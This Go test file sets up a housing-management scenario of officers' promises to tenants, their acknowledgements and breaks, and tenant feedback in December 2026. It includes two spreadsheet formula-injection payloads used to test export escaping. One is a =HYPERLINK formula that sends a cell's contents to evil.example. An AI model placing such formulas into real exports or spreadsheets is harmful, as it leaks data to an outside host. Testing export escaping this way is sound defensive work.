package api_test

import (
	"context"
	"testing"

	"doorstep/shared/housing"
)

// reviewScenario is three weeks of promises before Christmas 2026, made on
// the demo landlord's phones, each one placed to test one rule. Times are
// UTC, which is London time in December.
//
//	name  made         by      site       owner    due        then                                   queue on Thu 24 Dec
//	A     Mon 14 09:00 sarah   riverside  tenancy  Fri 18     picked up at once                      overdue (6 days)
//	B     Mon 14 09:00 sarah   riverside  tenancy  Wed 16     picked up Tue 15 09:00; jo breaks it   broken
//	K1    Mon 14 09:00 sarah   riverside  tenancy  Wed 16     up 13:00; done Wed 16 15:00; tenant    (kept on time)
//	                                                          agreed, then said it was done
//	K2    Mon 14 09:00 sarah   riverside  tenancy  Tue 15     up Tue 15 09:00; done Thu 17; agreed   (kept late)
//	H     Mon 14 09:00 kwame   hollins    income   Fri 18     priya picks it up 12:00                overdue, but not jo's
//	D     Mon 21 09:00 hannah  northgate  tenancy  Wed 23     up Tue 22 09:00; done 10:00; tenant    disputed
//	                                                          says not done
//	E     Mon 21 09:00 hannah  northgate  tenancy  29 Jan     picked up at once; tenant says wrong  disputed
//	C     Tue 22 16:00 sarah   riverside  tenancy  Tue 5 Jan  picked up at once                      due soon (bank holidays)
//	C2    Tue 22 16:00 sarah   riverside  tenancy  Wed 6 Jan  picked up at once                      none: 6th working day
//	F     Tue 22 16:00 sarah   riverside  repairs  15 Jan     nobody picks it up; tom tries to       not picked up
//	                                                          break it (refused: needs attention)
//	G     Thu 24 09:00 hannah  northgate  repairs  20 Jan     nobody picks it up                     none yet: from Wed 30
//
// Feedback: sarah at RIV-00001 on the 14th, hannah at NGT-00001 on the
// 21st, the tenant of K1 through the link on the 16th, kwame at HOL-00001
// on the 14th (not jo's).
type reviewScenario struct {
	w                                    *reviewWorld
	sarah, hannah, kwame, tom, priya, jo *phone
	ravi, admin                          *phone
	a, b, k1, k2, h, d, e, c, c2, f, g   housing.Commitment
	riv1, riv2, riv3, ngt1, ngt2, hol1   housing.Tenancy
	sarahFeedback, hannahFeedback        housing.Feedback
	tomBreakF                            housing.Result
}

// Texts that a spreadsheet would run as formulas, and text that needs
// quoting, carried into the exports.
const (
	evilWhat    = `=HYPERLINK("http://evil.example/?"&A1,"Fix, the ""door""")`
	evilComment = "@SUM(1+1)\nThe second line, with a comma and \"quotes\""
)

func newReviewScenario(t *testing.T) *reviewScenario {
	t.Helper()
	w := newReviewWorld(t)
	s := &reviewScenario{w: w}
	s.sarah, s.hannah, s.kwame, s.tom = w.signIn("sarah"), w.signIn("hannah"), w.signIn("kwame"), w.signIn("tom")
	s.priya, s.jo, s.ravi, s.admin = w.signIn("priya"), w.signIn("jo"), w.signIn("ravi"), w.signIn("admin")
	s.riv1, s.riv2, s.riv3 = w.tenancy("RIV-00001"), w.tenancy("RIV-00002"), w.tenancy("RIV-00003")
	s.ngt1, s.ngt2, s.hol1 = w.tenancy("NGT-00001"), w.tenancy("NGT-00002"), w.tenancy("HOL-00001")
	none := housing.CommitmentAction{}
	ack := func(c housing.Commitment) mutation { return act(housing.KindCommitmentAcknowledge, c, none) }
	done := func(c housing.Commitment) mutation { return act(housing.KindCommitmentComplete, c, none) }
	tenant := func(c housing.Commitment, answer string) {
		t.Helper()
		if _, err := w.db.TenantRespond(context.Background(), c.Token, housing.CommitmentAction{Answer: answer}); err != nil {
			t.Fatalf("tenant answers %s: %v", answer, err)
		}
	}

	w.at("2026-12-14T08:30:00Z")
	visit := housing.Visit{ID: newUUID(), TenancyID: s.riv1.ID, OfficerID: s.sarah.p.OfficerID, SiteID: s.riv1.SiteID,
		Purpose: housing.PurposeTenancyAudit, Notes: "Audit; tap dripping.", StartedAt: w.clock}
	s.sarah.ok(mutation{housing.KindVisitRecord, visit.ID, 0, visit})

	w.at("2026-12-14T09:00:00Z")
	var ma, mb, mk1, mk2, mh, mf mutation
	s.a, ma = s.sarah.promise(s.riv1, housing.FunctionTenancy, "2026-12-18", "Chase the neighbour about the fence")
	s.b, mb = s.sarah.promise(s.riv2, housing.FunctionTenancy, "2026-12-16", "Write to confirm the succession")
	s.k1, mk1 = s.sarah.promise(s.riv2, housing.FunctionTenancy, "2026-12-16", "Send the new tenancy handbook")
	s.k2, mk2 = s.sarah.promise(s.riv2, housing.FunctionTenancy, "2026-12-15", "Book the joint visit")
	s.sarahFeedback, mf = s.sarah.feedback(s.riv1, map[housing.Question]housing.Rating{
		housing.TP01: housing.VerySatisfied, housing.TP06: housing.FairlyDissatisfied, housing.TP07: housing.Neither, housing.TP08: housing.VerySatisfied,
	}, "-Fine overall.")
	s.sarah.ok(ma, ack(s.a), mb, mk1, mk2, mf)
	tenant(s.k1, housing.TenantAgreed)
	tenant(s.k2, housing.TenantAgreed)
	s.h, mh = s.kwame.promise(s.hol1, housing.FunctionIncome, "2026-12-18", "Set up a payment plan")
	_, mhf := s.kwame.feedback(s.hol1, map[housing.Question]housing.Rating{housing.TP01: housing.VerySatisfied}, "")
	s.kwame.ok(mh, mhf)

	w.at("2026-12-14T12:00:00Z")
	s.priya.pullAll()
	s.priya.ok(ack(s.h))
	w.at("2026-12-14T13:00:00Z")
	s.sarah.ok(ack(s.k1))
	w.at("2026-12-15T09:00:00Z")
	s.sarah.ok(ack(s.b), ack(s.k2))
	w.at("2026-12-16T15:00:00Z")
	s.sarah.ok(done(s.k1))
	tenant(s.k1, housing.TenantDone)
	if err := w.db.TenantFeedback(context.Background(), s.k1.Token, housing.Feedback{
		Source: housing.SourceTenant, Comment: evilComment,
		Answers: map[housing.Question]housing.Rating{housing.TP01: housing.VeryDissatisfied, housing.TP07: housing.FairlySatisfied},
	}); err != nil {
		t.Fatalf("tenant feedback: %v", err)
	}
	w.at("2026-12-17T10:00:00Z")
	s.sarah.ok(done(s.k2))
	s.jo.pullAll()
	s.jo.ok(act(housing.KindCommitmentBreak, s.b, housing.CommitmentAction{Reason: "We are sorry: the letter was not sent in time."}))

	w.at("2026-12-21T09:00:00Z")
	var md, me mutation
	s.d, md = s.hannah.promise(s.ngt1, housing.FunctionTenancy, "2026-12-23", "Replace the lost fob")
	s.e, me = s.hannah.promise(s.ngt2, housing.FunctionTenancy, "2027-01-29", "Arrange the mutual exchange")
	s.hannahFeedback, mf = s.hannah.feedback(s.ngt1, map[housing.Question]housing.Rating{
		housing.TP01: housing.FairlySatisfied, housing.TP06: housing.PreferNotToSay, housing.TP07: housing.VeryDissatisfied, housing.TP08: housing.FairlySatisfied,
	}, "")
	s.hannah.ok(md, me, ack(s.e), mf)
	tenant(s.e, housing.TenantNotAgreed)
	w.at("2026-12-22T09:00:00Z")
	s.hannah.ok(ack(s.d))
	w.at("2026-12-22T10:00:00Z")
	s.hannah.ok(done(s.d))
	tenant(s.d, housing.TenantNotDone)

	w.at("2026-12-22T16:00:00Z")
	var mc, mc2, mF mutation
	s.c, mc = s.sarah.promise(s.riv1, housing.FunctionTenancy, "2027-01-05", "Confirm the decant dates")
	s.c2, mc2 = s.sarah.promise(s.riv1, housing.FunctionTenancy, "2027-01-06", evilWhat)
	s.f, mF = s.sarah.promise(s.riv3, housing.FunctionRepairs, "2027-01-15", "Fix the communal door entry")
	s.sarah.ok(mc, ack(s.c), mc2, ack(s.c2), mF)

	w.at("2026-12-23T11:00:00Z")
	s.tom.pullAll()
	s.tomBreakF = s.tom.push(act(housing.KindCommitmentBreak, s.f, housing.CommitmentAction{Reason: "Not ours"}))[0]

	w.at("2026-12-24T09:00:00Z")
	var mg mutation
	s.g, mg = s.hannah.promise(s.ngt1, housing.FunctionRepairs, "2027-01-20", "Fix the landing light")
	s.hannah.ok(mg)

	w.at("2026-12-24T10:00:00Z")
	return s
}
